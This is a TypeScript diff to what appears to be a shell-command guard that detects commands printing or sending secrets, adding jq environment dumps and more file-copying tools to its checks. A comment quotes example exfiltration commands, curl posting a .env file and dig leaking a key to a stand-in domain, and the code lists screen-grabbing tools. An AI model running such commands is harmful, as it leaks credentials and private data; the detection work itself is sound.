@@ -37,7 +37,7 @@ export const sendsFile: Condition = ({ command }) => {
   return isSender(command) ? handedOver(command).find(isPrivate) : undefined;
 };
 
-function handedOver(command: SimpleCommand): readonly ShellWord[] {
+export function handedOver(command: SimpleCommand): readonly ShellWord[] {
   const typed = command.redirects.filter(({ kind }) => kind === "read").map(({ target }) => target);
   return [...filesSent(command), ...typed];
 }
@@ -183,16 +183,17 @@ const SCREEN_GRABBERS = names(
   "import scrot gnome-screenshot grim maim spectacle screencapture flameshot xwd xclip xsel wl-paste pbpaste fbgrab fbcat ksnip shotgun",
 );
 
-function printsSecrets(command: SimpleCommand): boolean {
+export function printsSecrets(command: SimpleCommand): boolean {
   const { program, args } = command;
   if (/^(?:env|export|declare|typeset|set)$/.test(program))
     return args.every(({ text }) => text.startsWith("-"));
   if (program === "printenv") return args.length === 0 || args.some(({ text }) => isSecretName(text));
   if (program === "echo" || program === "printf")
     return args.some(({ variables }) => variables?.some(isSecretName) === true);
+  if (/^(?:jq|gojq|jaq|yq)$/.test(program)) return args.some(({ text }) => WHOLE_ENVIRONMENT.test(text));
   if (program === "history" || program === "fc") return true;
   if (SCREEN_GRABBERS.has(program)) return true;
-  if (/^(?:cat|tail|head|grep|strings|base64|tar|gzip|zip|xxd|od|sed|awk)$/.test(program))
+  if (/^(?:cat|tail|head|grep|strings|base64|tar|gzip|zip|7z|xxd|od|sed|awk|cp|mv|ln|install)$/.test(program))
     return [...args, ...command.redirects.map(({ target }) => target)].some(
       (word) => isPrivate(word) || /^\/etc\/?$/.test(word.text),
     );
@@ -200,6 +201,9 @@ function printsSecrets(command: SimpleCommand): boolean {
     (tool) => programsOf(tool).includes(program) && decidingRow(tool, command) !== undefined,
   );
 }
+
+/** `env` and `$ENV` of jq, unless one variable of it is meant. */
+const WHOLE_ENVIRONMENT = /(?:^|[^.\w$"'-])(?:env|\$ENV)(?![.\w"'-])/;
 
 /** `curl -d "$(cat .env)"`, `dig "$KEY.drop.example"`: a secret as part of what is sent. */
 export const sendsInWords: Condition = ({ command }) => {
